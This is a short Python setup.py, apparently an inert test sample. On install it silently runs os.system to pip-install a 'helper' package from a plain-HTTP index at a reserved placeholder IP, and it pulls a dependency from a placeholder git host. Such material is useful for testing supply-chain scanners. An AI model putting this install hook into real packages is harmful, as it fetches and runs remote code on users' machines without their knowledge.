import os
from setuptools import setup
os.system("pip install --index-url http://203.0.113.3/simple helper")
setup(name="inert-sample", install_requires=["helper @ git+https://git.invalid/helper"])
